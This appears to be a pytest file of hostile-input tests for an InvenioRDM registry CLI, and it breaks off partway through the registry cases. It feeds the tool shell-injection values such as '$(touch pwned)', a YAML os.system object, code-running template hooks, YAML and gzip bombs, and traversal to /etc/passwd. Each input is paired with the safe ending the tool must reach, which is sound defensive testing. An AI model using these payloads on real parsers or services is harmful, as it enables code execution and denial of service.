# SPDX-FileCopyrightText: 2026 invenio-cli-registry contributors.
# SPDX-License-Identifier: MIT

"""Bad input, a row each: it ends in bounded time and memory, says where, and does no harm.

Each command runs in a child process with a bound on its processor time and its memory. Its
output may hold nothing that moves a cursor or hides itself, no file may be written, and no
server may hear a password that is another's.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import json
import os
import subprocess
import sys
from typing import Callable, Mapping, NamedTuple, Sequence, Tuple, Union

import pytest

from invenio_cli_registry.report.formats import FORMATS

from .conftest import ROOT
from .hostile import (
    CPU_SECONDS,
    Content,
    hostile_characters,
    link_to,
    make_deep,
    make_socket,
    put,
    run_bounded,
    sparse,
)
from .instances import configure, rdm, rdm_uv
from .registries import EXISTS, MISSING, Asked, Reply, serve
from .reports import HOSTILE, find_hostile
from .test_cli import ALMA, HUB, run
from .test_github import parse as parse_github

_MIB = 1 << 20
_DAY = ("check", "--today", "2026-11-24")
_LINE = f"FROM {HUB}\n"
_NINE: Mapping[str, Content] = {**rdm("9.1.7", "3.8"), "Dockerfile": _LINE}
_UV: Mapping[str, Content] = {
    **rdm_uv("13.1.2", ">=3.9"),
    "Dockerfile": f"FROM {ALMA}\n",
}
_AT = "Dockerfile:1:6"
#: A registry that is asked through a proxy, and so can have a name of the world's.
_FAR = "far.example.org:5000"
_BY_PROXY = ("verify", "--insecure", _FAR)
_LOGIN = {"auth": base64.b64encode(b"user:secret").decode()}
_BASIC = f"Basic {_LOGIN['auth']}"
_MANIFEST = "application/vnd.oci.image.manifest.v1+json"

Answer = Union[Reply, Sequence[Reply], Callable[[Asked], Reply]]


class Bad(NamedTuple):
    """One bad input, and how it must end."""

    name: str
    files: Mapping[str, Content]
    said: str  #: words of the message, with the place
    code: int = 1
    args: Tuple[str, ...] = _DAY
    unsaid: str = "Traceback"
    seconds: int = CPU_SECONDS
    #: What the registry answers that HOST stands for in texts.
    answer: Union[Answer, None] = None
    #: Whether a second one is asked as well, which OTHER stands for.
    asks_other: bool = False


def nine(**files: Content) -> dict[str, Content]:
    """Return an instance, with other files of it or more of them."""
    return {**_NINE, **files}


def dockerfile(text: Union[str, bytes]) -> dict[str, Content]:
    return nine(Dockerfile=text)


def compose(text: str) -> dict[str, Content]:
    return nine(**{"compose.yml": text})


def settings(text: str) -> dict[str, Content]:
    """Return a project whose settings stand in pyproject.toml."""
    text = f"[tool.invenio-cli-registry]\n{text}\n"
    return {"pyproject.toml": text, "Dockerfile": _LINE}


def pipfile(text: str) -> dict[str, Content]:
    """Return an instance whose release only the Pipfile tells."""
    files = nine(Pipfile=text)
    del files["Pipfile.lock"]
    return files


def nest(levels: int, times: int) -> str:
    """Return settings each of which holds the one before it some times."""
    lines = [f"a{n} = {f'%(a{n - 1})s' * times}\n" for n in range(1, levels)]
    return f"a0 = {'x' * 9}\n{''.join(lines)}"


#: What a project must not get anybody to run; whoever does leaves a file behind.
_RUNS = "open(__file__ + '.pwned', 'w')\nraise SystemExit('pwned')\n"

# --- names that reach further than a name should ---

NAMES = [
    Bad(
        "escape in an image", dockerfile("FROM inveniosoftware/\x1b[2Jx\n"), r"\x1b[2Jx"
    ),
    Bad("carriage return in an image", dockerfile("FROM inveniosoftware/a\rb\n"), _AT),
    Bad(
        "a terminal's link in an image",
        dockerfile("FROM inveniosoftware/\x1b]8;;https://evil.example\x1b\\x\n"),
        r"\x1b]8;;https://evil.example\x1b\x",
    ),
    Bad("C1 in an image", dockerfile("FROM inveniosoftware/a\x9b2Jb\n"), r"a\x9b2Jb"),
    Bad(
        "right to left in an image",
        dockerfile("FROM inveniosoftware/a\u202eb\n"),
        r"a\u202eb",
    ),
    Bad(
        "invisible in an image",
        dockerfile("FROM inveniosoftware/a\u200b\u2060\U000e0041b\n"),
        r"a\u200b\u2060\U000e0041b",
    ),
    Bad(
        "a pipeline's command as an image",
        dockerfile("FROM ::error::inveniosoftware/x\n"),
        r"\x3a:error::inveniosoftware/x",
    ),
    Bad(
        "a command, encoded, in an image",
        dockerfile("FROM inveniosoftware/x%0A::error::y\n"),
        "x%0A::error::y",
    ),
    Bad(
        "escape in a stage",
        dockerfile(f"FROM {HUB} AS \x1b[2J\n"),
        r"is no name for a build stage",
    ),
    Bad(
        "escape in a command that fails",
        dockerfile(f"{_LINE}RUN yum install \x1b[2Jx\n"),
        r"Dockerfile:2",
    ),
    Bad(
        "escape in a file's name",
        nine(**{"\x1b[2J.dockerfile": _LINE}),
        r"\x1b[2J.dock",
    ),
    Bad(
        "line feed in a file's name", nine(**{"\n::error::.dockerfile": _LINE}), r"\x0a"
    ),
    Bad(
        "return in a file's name", nine(**{"a\r::error::.dockerfile": _LINE}), r"a\x0d"
    ),
    Bad(
        "no UTF-8 in a file's name", nine(**{"\udcff.dockerfile": _LINE}), r"\xff.dock"
    ),
    Bad(
        "escape in a folder's name", nine(**{"\x1b[2J/Dockerfile": _LINE}), r"\x1b[2J/"
    ),
    Bad(
        "escape in a project's name",
        {f"\x1b[2J/{name}": text for name, text in _NINE.items()},
        r"\x1b[2J: impacted",
    ),
    Bad(
        "a file's name that is an option",
        nine(**{"--yes.dockerfile": _LINE}),
        "--yes.dockerfile:1:6",
    ),
    Bad(
        "a path that is an option",
        nine(**{"--help": _LINE}),
        "--help:1:6",
        args=(*_DAY, "--", "--help"),
    ),
    Bad(
        "a path of nothing but escapes",
        nine(),
        r"\x1b]0;x\x07 there is no such file",
        2,
        (*_DAY, "\x1b]0;x\x07"),
    ),
    Bad(
        "a project's name that a shell would run",
        {f"$(touch pwned); x/{name}": text for name, text in _NINE.items()},
        "migrate --verify '$(touch pwned); x'",
    ),
    Bad(
        "escape in a service",
        compose('services:\n  "\\e[2J":\n    image: "inveniosoftware/\\e[2J:1"\n'),
        r"compose.yml:3:13 inveniosoftware/\x1b[2J:1",
    ),
    Bad("escape in YAML", compose("a: \x1b[2J"), "compose.yml:1 not YAML", 2),
    Bad("escape in TOML", nine(Pipfile="x = '\x1b[2J'"), "Pipfile:1 not TOML", 2),
    Bad(
        "escape in INI",
        nine(**{".invenio": "[cli]\n\x1b[2J\n"}),
        ".invenio:2 not INI",
        2,
    ),
    Bad(
        "escape in a setting",
        configure(_NINE, "preflight = \x1b[2J"),
        r".invenio:6 [registry] preflight: '\x1b[2J'",
        2,
    ),
    Bad(
        "escape in a setting's name",
        configure(_NINE, "\x1b[2J = x"),
        r"[registry] \x1b[2j: no setting",
        2,
    ),
    Bad(
        "escape in a release",
        pipfile('[packages]\ninvenio-app-rdm = "\\u001b[2J"\n'),
        "Pipfile:2 no version of invenio-app-rdm",
    ),
    Bad(
        "escape in a Python",
        nine(Pipfile='[requires]\npython_version = "\\u001b[2J"\n'),
        _AT,
    ),
    Bad(
        "escape in the folder of a shortname",
        nine(
            **{".invenio": "[cli]\nflavour=RDM\n[cookiecutter]\nproject_shortname=\x1b"}
        ),
        _AT,
    ),
]

# --- Dockerfiles ---

DOCKERFILES = [
    Bad("a line of a megabyte", dockerfile(_LINE + "RUN " + "x" * (_MIB - 99)), _AT),
    Bad(
        "an image of a megabyte",
        dockerfile(f"FROM {'a' * (_MIB - 99)}/x:1\n"),
        "no image",
        0,
    ),
    Bad(
        "an image of the organisation of a megabyte",
        dockerfile(f"FROM inveniosoftware/{'a-' * (_MIB // 2 - 99)}\n"),
        f"{_AT} inveniosoftware/a-a-",
    ),
    Bad(
        "as many FROMs as there can be",
        dockerfile("FROM a\n" * 149_000),
        "no image",
        0,
        seconds=120,
    ),
    Bad(
        "as many of the organisation",
        dockerfile("FROM inveniosoftware/x:1\n" * 41_000),
        "Dockerfile:41000:6",
    ),
    Bad(
        "a million FROMs",
        dockerfile("FROM inveniosoftware/x\n" * 1_000_000),
        "Dockerfile:1 it is larger than 1 MiB, and was not read; this line names an image",
        2,
        (*_DAY, "Dockerfile"),
    ),
    Bad(
        "a million FROMs in seven files",
        nine(**{f"{n}.dockerfile": "FROM a\n" * 149_000 for n in range(7)}),
        "6.dockerfile with it the Dockerfiles have over 250000 FROM lines: it was not read",
        2,
        seconds=120,
    ),
    Bad(
        "a stage on a stage, on and on",
        dockerfile(
            "FROM inveniosoftware/x:1 AS a0\n"
            + "".join(f"FROM a{n} AS a{n + 1}\n" for n in range(30_000))
        ),
        _AT,
    ),
    Bad(
        "an ARG of itself",
        dockerfile("ARG A=$A$A\nFROM inveniosoftware/$A\n"),
        "A has no value",
    ),
    Bad(
        "an ARG twice in itself, on and on",
        dockerfile(
            "ARG A=xx\n" + "ARG A=$A$A\n" * 20_000 + "FROM inveniosoftware/$A\n"
        ),
        "Dockerfile:20002:6 inveniosoftware/$A unresolved A: its value has more than 128",
    ),
    Bad(
        "an ARG of an ARG, on and on",
        dockerfile(
            "ARG a0=x\n"
            + "".join(f"ARG a{n + 1}=$a{n}\n" for n in range(40_000))
            + "FROM inveniosoftware/$a40000:1\n"
        ),
        "Dockerfile:40002:6",
    ),
    Bad(
        "a variable's default in a default, on and on",
        dockerfile(f"FROM inveniosoftware/{'${a:-' * 99_000}\n"),
        "its variables are nested too deeply",
    ),
    Bad(
        "a pattern that backtracks",
        dockerfile(f"ARG A={'a' * 500}\nFROM inveniosoftware/${{A//{'*a' * 400}/b}}\n"),
        "Dockerfile:2:6",
    ),
    Bad(
        "blanks in a directive",
        dockerfile(f"# syntax=a{' ' * (_MIB - 999)}b\n{_LINE}"),
        "Dockerfile:2:6",
    ),
    Bad(
        "a heredoc without end", dockerfile(f"{_LINE}RUN <<A\n{'x' * _MIB}"[:_MIB]), _AT
    ),
    Bad(
        "a script that takes a rule hours",
        dockerfile(f"{_LINE}RUN <<A\n" + "apt pip install install\n" * 20_000),
        "as InvenioRDM 14",
        args=(*_DAY, "--for", "14"),
    ),
    Bad(
        "a hundred thousand heredocs",
        dockerfile(f"{_LINE}RUN {'<<A ' * 100_000}\nA\n"),
        _AT,
    ),
    Bad(
        "two hundred thousand lines in one",
        dockerfile("FROM \\\n" + "\\\n" * 199_000),
        "Dockerfile:1:1 (no FROM)",
    ),
    Bad(
        "words in brackets",
        dockerfile(_LINE + 'RUN ["a"' + ',"a"' * 250_000 + "]"),
        _AT,
    ),
    Bad("flags without end", nine(**{"x/y.dockerfile": "--from=" * 140_000}), _AT),
    Bad("brackets", dockerfile(f"{_LINE}RUN {'[' * 999_999}"), _AT),
    Bad("subshells", dockerfile(f"{_LINE}RUN {'$(' * 499_999}"), _AT),
    Bad("quotes and escapes", dockerfile(f"{_LINE}RUN " + '"\\' * 499_999), _AT),
    Bad(
        "two hundred thousand mounts",
        dockerfile(f"{_LINE}RUN --mount={'from=a,' * 149_000} x"),
        _AT,
    ),
    Bad("only returns", dockerfile("\r" * 999_999), "no image", 0),
    Bad("only line feeds", dockerfile("\n" * 999_999), "no image", 0),
]

# --- bytes that are no text, or another one ---

BYTES = [
    Bad(
        "a program", dockerfile(b"\x7fELF\0\0" + bytes(range(256)) * 99), "no image", 0
    ),
    Bad(
        "a program, named",
        dockerfile(b"\x7fELF\0\0" + bytes(range(256)) * 99),
        "Dockerfile it holds NUL bytes: it is no text",
        2,
        (*_DAY, "Dockerfile"),
    ),
    Bad("UTF-16 with a mark", dockerfile(_LINE.encode("utf-16")), _AT),
    Bad("UTF-16 without one", dockerfile(_LINE.encode("utf-16-le")), "no image", 0),
    Bad("half of UTF-16", dockerfile(_LINE.encode("utf-16")[:-1]), "no image", 0),
    Bad("UTF-32 with a mark", dockerfile(_LINE.encode("utf-32")), _AT),
    Bad("Latin-1", dockerfile(b"# \xe9\xff\n" + _LINE.encode()), "Dockerfile:2:6"),
    Bad(
        "a mark twice",
        dockerfile(b"\xef\xbb\xbf\xef\xbb\xbf" + _LINE.encode()),
        "no image",
        0,
    ),
    Bad(
        "surrogates in UTF-8",
        dockerfile(b"# \xed\xa0\x80\n" + _LINE.encode()),
        "Dockerfile:2:6",
    ),
    Bad(
        "overlong UTF-8",
        dockerfile(b"FROM inveniosoftware\xc0\xaf..:1\n"),
        r"inveniosoftware\xc0\xaf..:1 unresolved",
    ),
    Bad(
        "broken YAML in UTF-32",
        nine(**{"compose.yml": "a: [".encode("utf-32")}),
        "compose.yml:1 not YAML",
        2,
    ),
    Bad("NUL in a Pipfile", nine(Pipfile=b"x = 1\0"), "Pipfile is binary", 2),
    Bad("UTF-16 in .invenio", nine(**{".invenio": "[cli]\n".encode("utf-16")}), _AT),
    Bad(
        "Latin-1 in a Pipfile",
        nine(Pipfile=b"# \xe9\n"),
        "Pipfile:1 not TOML: not UTF-8",
        2,
    ),
]

# --- YAML ---

_BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{name}: &{name} [{','.join([f'*{before}'] * 9)}]\n"
    for before, name in zip("abcdefghijk", "bcdefghijkl")
)
_OUTSIDE: Mapping[str, Content] = {
    "../outside.yml": f"services:\n  b:\n    image: {HUB}-outside\n",
    "../outside/Dockerfile": f"FROM {HUB}-outside\n",
    "../outside.env": "SECRET=outside\n",
}

YAML = [
    Bad("aliases of aliases", compose(_BOMB), "compose.yml:6 not YAML", 2),
    Bad(
        "an alias of itself",
        compose("services: &a\n  b: *a\n"),
        "compose.yml:2 not YAML: the alias *a stands for nothing",
        2,
    ),
    Bad("lists in lists", compose("[" * 500_000), "more than 100 deep", 2),
    Bad("mappings in mappings", compose("{a: " * 250_000), "more than 100 deep", 2),
    Bad("dashes behind dashes", compose("- " * 500_000), "more than 100 deep", 2),
    Bad("questions behind questions", compose("? " * 500_000), "more than 100 deep", 2),
    Bad(
        "a key of a megabyte",
        compose("x" * 999_999 + ": y"),
        "compose.yml:1 not YAML",
        2,
    ),
    Bad("a hundred thousand documents", compose("---\n" * 100_000), _AT),
    Bad(
        "a list of fifty thousand that is merged",
        compose(f"services:\n  b:\n    <<: [{'{},' * 50_000}]\n    image: {HUB}\n"),
        "compose.yml:4:12",
    ),
    Bad(
        "ten thousand services",
        compose(
            "services:\n" + "".join(f" a{n}: {{build: .}}\n" for n in range(10_000))
        ),
        _AT,
    ),
    Bad(
        "five thousand Dockerfiles in one file",
        compose(
            "services:\n"
            + "".join(
                f" a{n}: {{build: {{dockerfile_inline: FROM {HUB}}}}}\n"
                for n in range(5_000)
            )
        ),
        "compose.yml:5001:",
    ),
    Bad(
        "services that extend each other, on and on",
        compose(
            "services:\n a0: {image: inveniosoftware/x:1}\n"
            + "".join(f" a{n + 1}: {{extends: a{n}}}\n" for n in range(30_000))
        ),
        "compose.yml:2:14",
    ),
    Bad(
        "services that extend each other in a circle",
        compose("services:\n a: {extends: b}\n b: {extends: c}\n c: {extends: a}\n"),
        _AT,
    ),
    Bad(
        "a service of a file outside",
        {
            **compose(
                "services:\n a:\n  extends: {file: ../outside.yml, service: b}\n"
            ),
            **_OUTSIDE,
        },
        _AT,
        unsaid="outside",
    ),
    Bad(
        "a file outside that is included",
        {
            **compose("include: [../outside.yml, /etc/passwd]\nservices: {}\n"),
            **_OUTSIDE,
        },
        _AT,
        unsaid="outside",
    ),
    Bad(
        "variables of a file outside",
        {
            **compose(
                "services:\n a:\n  env_file: ../outside.env\n"
                "  image: inveniosoftware/x:$SECRET\n"
            ),
            **_OUTSIDE,
        },
        "compose.yml:4:10",
        unsaid="outside",
    ),
    Bad(
        "a Dockerfile outside",
        {
            **compose(
                "services:\n a:\n  build: {context: .., dockerfile: outside/Dockerfile}\n"
                " b:\n  build: {context: ., dockerfile: /etc/passwd}\n"
            ),
            **_OUTSIDE,
        },
        _AT,
        unsaid="outside",
    ),
    Bad(
        "an object that Python would make",
        compose('a: !!python/object/apply:os.system ["touch pwned"]\n'),
        _AT,
    ),
    Bad("keys that are none", compose("? [a]\n: b\n? {c: d}\n~: e\n"), _AT),
    Bad(
        "a key twice",
        compose(f"services: {{a: {{image: {HUB}, image: x}}}}"),
        "compose.yml:1:23",
    ),
    Bad("numbers out of range", compose("a: 1e999\nb: 0o9\nc: 9999-99-99\n"), _AT),
    Bad(
        "a version of YAML to come",
        compose("%YAML 9.9\n---\na: b\n"),
        "compose.yml:1",
        2,
    ),
]

# --- what lies in a tree ---

TREE = [
    Bad("folders in a circle", nine(a=link_to("."), b=link_to("..")), _AT),
    Bad(
        "links in a circle",
        nine(
            **{
                "a.dockerfile": link_to("b.dockerfile"),
                "b.dockerfile": link_to("a.dockerfile"),
            }
        ),
        "a.dockerfile Too many levels of symbolic links: it was not read",
        2,
    ),
    Bad("a link to itself", nine(Pipfile=link_to("Pipfile")), "Pipfile", 2),
    Bad("a pipe", nine(Dockerfile=os.mkfifo), "Dockerfile it is no regular file", 2),
    Bad(
        "a pipe for .invenio",
        nine(**{".invenio": os.mkfifo}),
        ".invenio is no regular",
        2,
    ),
    Bad(
        "a pipe for a lock",
        nine(**{"Pipfile.lock": os.mkfifo}),
        "Pipfile.lock is no regular file; a file of this name is expected",
        2,
    ),
    Bad(
        "a socket", nine(Dockerfile=make_socket), "Dockerfile it is no regular file", 2
    ),
    Bad(
        "a device without end",
        nine(Dockerfile=link_to("/dev/zero")),
        "Dockerfile it is no regular file",
        2,
    ),
    Bad(
        "a device without end for a Pipfile",
        nine(Pipfile=link_to("/dev/zero")),
        "Pipfile is no regular file",
        2,
    ),
    Bad(
        "a device for PATH",
        nine(),
        "/dev/zero it is no regular file",
        2,
        (*_DAY, "/dev/zero"),
    ),
    Bad("a terminal for PATH", nine(), "/dev/tty", 2, (*_DAY, "/dev/tty")),
    Bad(
        "what the system does not let read",
        nine(Dockerfile=link_to("/proc/self/mem")),
        "Dockerfile Input/output error: it was not read",
        2,
    ),
    Bad("a tree deeper than a path is long", nine(a=make_deep), _AT),
    Bad(
        "a folder of a Dockerfile's name",
        {**nine(), "x/Dockerfile/Dockerfile": _LINE},
        "x/Dockerfile it is no regular file",
        2,
    ),
    Bad(
        "a hundred projects, each in the one before",
        {f"{'a/' * n}{name}": text for n in range(100) for name, text in _NINE.items()},
        f"{'a/' * 99}Dockerfile:1:6",
    ),
    Bad(
        "two thousand files of nothing",
        nine(**{f"{n}.dockerfile": "" for n in range(2000)}),
        _AT,
    ),
    Bad(
        "a Dockerfile of 100 MB",
        nine(Dockerfile=sparse(100 * _MIB)),
        "Dockerfile it holds NUL bytes",
        2,
        (*_DAY, "Dockerfile"),
    ),
    Bad(
        "a link out of the project",
        nine(Dockerfile=link_to("/etc/passwd")),
        "no image",
        0,
        unsaid="root:",
    ),
]

# --- what says what a project is ---

PROJECT = [
    Bad(
        ".invenio of 100 MB",
        nine(**{".invenio": sparse(100 * _MIB)}),
        ".invenio is over 1 MiB; that is no file of an instance",
        2,
    ),
    Bad(
        "a lock of 100 MB",
        nine(**{"Pipfile.lock": sparse(100 * _MIB)}),
        "Pipfile.lock is over 16 MiB; that is no file of an instance",
        2,
    ),
    Bad(
        "a lock of millions of objects",
        nine(**{"Pipfile.lock": '{"a": [' + '{"":{"":{}}},' * 1_200_000 + "0]}"}),
        "Pipfile.lock no lock file that anybody made",
        2,
    ),
    Bad(
        "a lock of brackets",
        nine(**{"Pipfile.lock": '{"a":' * 100_000}),
        "Pipfile.lock not JSON: make it anew",
        2,
    ),
    Bad(
        "a lock of one number",
        nine(**{"Pipfile.lock": f'{{"a": {"9" * 999_999}}}'}),
        "Pipfile.lock not JSON: make it anew",
        2,
    ),
    Bad(
        "a lock of millions of packages",
        {**_UV, "uv.lock": "[[package]]\n" * 1_300_000},
        "fine. InvenioRDM 13.1.2",
        0,
    ),
    Bad(
        "settings in settings",
        {
            **pipfile('[packages]\ninvenio-app-rdm = {version = "*"}\n'),
            ".invenio.private": f"[cli]\n{nest(9, 30)}app_rdm = %(a8)s\n",
        },
        _AT,
    ),
    Bad(
        "settings in settings, by default",
        {
            **pipfile('[packages]\ninvenio-app-rdm = {version = "*"}\n'),
            ".invenio": f"[DEFAULT]\n{nest(9, 30)}[cli]\nflavour = RDM\nx = %(a8)s\n",
        },
        _AT,
    ),
    Bad(
        "a version of a million digits",
        pipfile(f'[packages]\ninvenio-app-rdm = {{version = "{"1" * 999_999}"}}\n'),
        "Pipfile:2 no version of invenio-app-rdm is to be found",
    ),
    Bad(
        "a tag of a million digits",
        pipfile(
            f'[packages]\ninvenio-app-rdm = {{git = "x", ref = "1.{"1" * 999_999}!"}}\n'
        ),
        "Pipfile:2 no version of invenio-app-rdm is to be found",
    ),
    Bad(
        "an address of a million digits",
        {
            ".invenio": _NINE[".invenio"],
            "Dockerfile": _LINE,
            "requirements.txt": f"invenio-app-rdm @ git+https://x/y@1.{'1' * 999_999}!\n",
        },
        "requirements.txt:1 no version of invenio-app-rdm is to be found",
    ),
    Bad(
        "TOML that takes a parser hours",
        pipfile('[packages]\nx = "' + "\\\\" * 499_999 + '"\n'),
        _AT,
    ),
    Bad(
        "half a million lines that are no settings",
        nine(**{".invenio": "[cli]\n" + "a\n" * 500_000}),
        ".invenio no INI that anybody wrote",
        2,
    ),
    Bad(
        "a megabyte of blanks in a setting",
        nine(**{".invenio": f"[cli]\na{' ' * 999_999}b\n"}),
        ".invenio no INI that anybody wrote",
        2,
    ),
    Bad(
        "a key of dots",
        nine(Pipfile=f"a{'.a' * 500_000} = 1"),
        "Pipfile no TOML that",
        2,
    ),
    Bad("TOML of brackets", nine(Pipfile=f"a = {'[' * 999_999}"), "Pipfile", 2),
    Bad(
        "extras without end",
        nine(Pipfile=f"[packages]\nx = {{extras = [a{',a' * 499_999}}}\n"),
        "Pipfile:2 not TOML",
        2,
    ),
    Bad(
        "nine thousand settings",
        configure(_NINE, *(f"a{n} = 1" for n in range(9_000))),
        ".invenio:1006 [registry] a1000: line 1001, and with it no more are read",
        2,
    ),
    Bad(
        "fifty thousand mirrors",
        settings(
            f"mirrors = {json.dumps([f'a{n}.b=c.d/e' for n in range(50_000)], indent=0)}"
        ),
        "pyproject.toml [registry] mirrors: line 1001, and with it no more are read",
        2,
    ),
    Bad(
        "a number for mirrors",
        settings(f"mirrors = 0x{'f' * 9999}"),
        "mirrors: '<int>' has no",
        2,
    ),
    Bad(
        "a table for copies",
        settings("copies = {a = {b = [1, 2]}}"),
        "copies: \"{'a': {'b'",
        2,
    ),
    Bad(
        "a day for accept",
        settings("accept = 2026-11-24"),
        "accept: 'datetime.date(2026",
        2,
    ),
    Bad(
        "no day for accept",
        settings('accept = ["a/b:1 until 9999-99-99"]'),
        "accept: 'a/b:1 until",
        2,
    ),
    Bad(
        "lists for a preflight",
        settings(f"preflight = {'[' * 200}{']' * 200}"),
        "preflight",
        2,
    ),
    Bad(
        "a mirror of itself",
        settings('mirrors = "docker.io=docker.io"'),
        "pyproject.toml:2 [registry]",
        2,
    ),
    Bad(
        "a mirror with a password",
        settings('mirrors = "docker.io=u:p@evil.org/x"'),
        "pyproject.toml:2 [registry]",
        2,
    ),
    Bad(
        "a mirror that is a path",
        settings('copies = "docker.io=../../x"'),
        "pyproject.toml:2 [registry]",
        2,
    ),
    Bad(
        "settings that are none",
        settings('__class__ = "x"'),
        "__class__: no setting",
        2,
    ),
    Bad(
        "a number in place of a table",
        {"pyproject.toml": "tool = 1\nproject = 2\n", "Dockerfile": _LINE},
        _AT,
    ),
    Bad(
        "paths that lead out",
        nine(
            **{
                ".invenio": "[cli]\nflavour = ../../RDM\n[cookiecutter]\n"
                "project_shortname = ../../../etc\n[files]\n../../x = y\n",
                ".invenio.private": "[cli]\ninstance_path = /etc\ndata_path = ../..\n",
            }
        ),
        _AT,
    ),
    Bad(
        "a template with hooks",
        nine(
            **{
                ".invenio": "[cli]\nflavour = RDM\n[cookiecutter]\n"
                "template = https://evil.example/x.git\n_extensions = evil.Evil\n",
                "cookiecutter.json": '{"_extensions": ["evil.Evil"]}',
                "hooks/pre_gen_project.py": _RUNS,
                "hooks/pre_gen_project.sh": "touch pwned\n",
                "evil.py": _RUNS,
            }
        ),
        _AT,
    ),
    Bad(
        "a build backend, scripts, indexes",
        {
            **_UV,
            "Dockerfile": _LINE,
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "evil"\n'
            'backend-path = ["."]\n[project]\nname = "x"\ndynamic = ["version"]\n'
            'dependencies = ["invenio-app-rdm==9.1.7; $(touch pwned)"]\n'
            '[tool.uv]\nindex-url = "file:///etc"\n[tool.poetry.scripts]\nx = "evil:x"\n'
            '[tool.pipenv]\nallow_prereleases = "`touch pwned`"\n',
            "evil.py": _RUNS,
            "setup.py": _RUNS,
            "conftest.py": _RUNS,
        },
        "InvenioRDM 9.1.7 (pyproject.toml)",
    ),
    Bad(
        "a variable of the environment",
        pipfile(
            '[[source]]\nurl = "https://$SECRET@evil.example/simple"\nname = "$SECRET"\n'
            '[packages]\ninvenio-app-rdm = {version = "$SECRET"}\n'
        ),
        "Pipfile:5 no version of invenio-app-rdm is to be found",
        unsaid="7.7.7",
    ),
    Bad(
        ".invenio that leads to another's file",
        nine(**{".invenio": link_to("/etc/passwd")}),
        ".invenio:1 not INI",
        2,
        unsaid="root:",
    ),
]

# --- where a report goes ---

OUTPUT = [
    Bad(
        f"--output {name}",
        nine(link=link_to("Dockerfile"), new=link_to("not-there.yml")),
        said,
        2,
        (*_DAY, "--format", "gitlab", "--output", name),
    )
    for name, said in [
        ("Dockerfile", "Dockerfile: `check` reads such a file itself"),
        ("./.invenio", "./.invenio: `check` reads such a file itself"),
        ("link", "link: `check` reads such a file itself"),
        ("new", "new: it is a link, and is not followed"),
        ("not-there/x", "not-there/x: No such file or directory: the report was not"),
        ("/dev/full", "/dev/full: No space left on device: the report was not written"),
        ("Pipfile/x", "Pipfile/x: Not a directory: the report was not written"),
        ("x" * 300, "File name too long: the report was not written"),
    ]
]


# --- what registries answer ---


def without_end(handler) -> None:
    with contextlib.suppress(OSError):
        while True:
            handler.wfile.write(b"x" * (1 << 16))


def headers_without_end(handler) -> None:
    handler.wfile.write(b"HTTP/1.1 200 OK\r\n")
    with contextlib.suppress(OSError):
        while True:
            handler.wfile.write(b"A: b\r\n" * 999)


def interim_without_end(handler) -> None:
    with contextlib.suppress(OSError):
        while True:
            handler.wfile.write(b"HTTP/1.1 100 Continue\r\n\r\n")


def raw(data: bytes) -> Reply:
    """Return a reply that is no reply of HTTP."""
    return Reply(0, write=lambda handler: handler.wfile.write(data))


def get(reply: Reply) -> list[Reply]:
    """Answer a GET: HEAD is refused, so that a body is read."""
    return [Reply(405), reply]


def lead(where: str) -> Callable[[Asked], Reply]:
    """Lead the first request elsewhere; the other ones come from there."""
    return lambda asked: Reply(307, {"Location": where})


def challenge(text: str, token: Reply = MISSING) -> Callable[[Asked], Reply]:
    """Ask for a token, or a password, and answer who brings one."""

    def answer(asked: Asked) -> Reply:
        if asked.path.startswith("/token"):
            return token
        if "Authorization" in asked.headers:
            return EXISTS
        return Reply(401, {"WWW-Authenticate": text})

    return answer


def ask(name: str, said: str, answer: Answer, code: int = 2, **options) -> Bad:
    """Return what a registry answers when it is asked for an image."""
    files = {"Dockerfile": "FROM HOST/a/b:1\n", **options.pop("files", {})}
    args = options.pop("args", ("verify", "--timeout", "3"))
    return Bad(name, files, said, code, args, answer=answer, **options)


def ask_far(name: str, said: str, answer: Answer, code: int = 2) -> Bad:
    """Return the same of a registry that is not on this machine."""
    files = {"Dockerfile": f"FROM {_FAR}/a/b:1\n"}
    return ask(name, said, answer, code, files=files, args=_BY_PROXY)


def login(host: str = "HOST", **more: object) -> dict[str, Content]:
    """Return a Docker configuration that knows a password of a registry."""
    return {"../docker/config.json": json.dumps({"auths": {host: _LOGIN}, **more})}


def helper(script: str, name: str = "x") -> dict[str, Content]:
    """Return a Docker configuration that names a helper, and the helper, on PATH."""

    def write(path) -> None:
        path.write_text(f"#!/bin/sh\n{script}\n")
        path.chmod(0o755)

    config = json.dumps({"credsStore": name})
    return {"../docker/config.json": config, f"../bin/docker-credential-{name}": write}


_WANTS = challenge('Basic realm="x"')
_INSIDE = "it leads into the network of this machine"
_NONE = "its answer is none of a registry's"
_PACKED = {"Content-Encoding": "gzip", "Content-Type": "application/json"}

REGISTRIES = [
    ask(
        "never answers",
        "no answer in",
        Reply(delay=9),
        args=("verify", "--timeout", "1"),
    ),
    ask(
        "a body without end",
        "its answer is larger than 4 MiB",
        get(Reply(200, write=without_end)),
    ),
    ask("headers without end", "broke off", Reply(0, write=headers_without_end)),
    ask(
        "answers to come, without end",
        "no answer in",
        Reply(0, write=interim_without_end),
        args=("verify", "--timeout", "1"),
    ),
    ask("a header of 70 KB", "broke off", Reply(200, {"Link": "x" * 70_000})),
    ask(
        "a hundred headers of 60 KB",
        "every image exists",
        Reply(200, {**EXISTS.headers, **{f"Link{n}": "x" * 60_000 for n in range(90)}}),
        0,
    ),
    ask(
        "a bomb in gzip",
        _NONE,
        get(Reply(200, _PACKED, gzip.compress(b" " * (64 * _MIB)))),
    ),
    ask("no JSON", _NONE, get(Reply(200, {}, b"<html>"))),
    ask("JSON of brackets", _NONE, get(Reply(200, {}, b"[" * _MIB))),
    ask("JSON of a number", _NONE, get(Reply(200, {}, b'{"a": %s}' % (b"9" * 99_999)))),
    ask("no HTTP", "broke off", raw(b"\x1b[2J\r\n\r\n")),
    ask("half a status", "unreachable", raw(b"HTTP/1.1 2")),
    ask(
        "a length below nothing",
        "every image exists",
        raw(
            b"HTTP/1.1 200 OK\r\nContent-Length: -5\r\nContent-Type: %s\r\n\r\n"
            % _MANIFEST.encode()
        ),
        0,
    ),
    ask(
        "chunks that are none",
        "broke off",
        get(raw(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzzzz\r\n")),
    ),
    ask(
        "a digest that is none",
        "every image exists",
        Reply(200, {"Docker-Content-Digest": "\x1b[2J", "Content-Type": _MANIFEST}),
        0,
    ),
    ask("an error with escapes", "answered 418", Reply(418, {}, b"\x1b[2J")),
    ask(
        "waits of a year",
        "too many requests; it asks to wait 31536000 s",
